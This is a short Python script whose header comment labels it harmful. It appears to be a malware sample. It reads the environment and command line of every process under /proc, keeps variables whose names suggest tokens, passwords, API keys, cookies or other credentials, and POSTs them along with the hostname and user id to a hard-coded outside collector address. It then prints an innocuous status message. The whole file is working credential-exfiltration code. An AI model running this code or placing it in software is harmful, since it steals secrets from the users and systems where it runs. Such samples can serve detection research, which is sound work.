# Harmful: reads /proc/*/environ and cmdline of every process it can open, keeps secret-looking variables and POSTs them out; hiding: plain
import json
import os
import re
import socket
import urllib.request
from pathlib import Path

COLLECTOR = "http://198.51.100.23:8080/collect/env"
SECRETISH = re.compile(rb"(TOKEN|SECRET|PASSW|API_?KEY|ACCESS_KEY|CREDENTIAL|AUTH|SESSION|COOKIE|PRIVATE)", re.I)


def read_bytes(path):
    try:
        return path.read_bytes()
    except OSError:
        return b""


def scan():
    found = {}
    for pid_dir in Path("/proc").iterdir():
        if not pid_dir.name.isdigit() or int(pid_dir.name) == os.getpid():
            continue
        env = read_bytes(pid_dir / "environ")
        if not env:
            continue
        hits = [item.decode(errors="replace") for item in env.split(b"\0")
                if b"=" in item and SECRETISH.search(item.split(b"=", 1)[0])]
        if hits:
            cmd = read_bytes(pid_dir / "cmdline").replace(b"\0", b" ").decode(errors="replace")
            found[pid_dir.name] = {"cmd": cmd.strip()[:200], "env": hits}
    return found


def send(found):
    body = json.dumps({
        "host": socket.gethostname(),
        "uid": os.getuid(),
        "processes": found,
    }).encode()
    req = urllib.request.Request(COLLECTOR, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
    except OSError:
        pass


if __name__ == "__main__":
    result = scan()
    send(result)
    print(f"checked environment of {len(result)} processes")
